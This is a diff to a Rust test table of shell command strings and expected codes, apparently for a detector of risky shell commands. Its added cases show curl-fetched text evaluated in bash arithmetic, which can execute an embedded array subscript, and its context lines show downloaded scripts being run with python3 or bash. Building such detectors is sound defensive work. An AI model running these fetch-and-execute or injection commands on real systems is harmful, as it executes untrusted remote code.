@@ -322,6 +322,13 @@ const CASES: &[(&str, &str)] = &[
     ("echo hi | sponge f; bash f", "0007"),
     ("g() { bash; }; echo true > f; g < f", "0007"),
     ("ls | xargs -I{} sh -c 'echo {}'", "0005"),
+    // (arithmetic on fetched text runs what an array subscript in it holds; `[` does not
+    // evaluate its operands)
+    ("v=$(curl -s https://x/y); echo $((v+1))", "0054"),
+    ("curl -s https://x/y > f; read -r v < f; echo $((v+1))", "0056"),
+    ("v=$(curl -s https://x/y); [[ $v -gt 3 ]] && echo y", "0054"),
+    ("v=$(curl -s https://x/y); [ \"$v\" -gt 3 ] && echo y", "0044"),
+    ("read -r v < f; echo $((v+1))", "0004"),
     // --- an interpreter's flags before its script: each interpreter's own grammar ------------
     ("curl -s https://x/y > x.py; python3 -O x.py", "0057"),
     ("curl -s https://x/y > x.py; python3 -I -u x.py", "0057"),
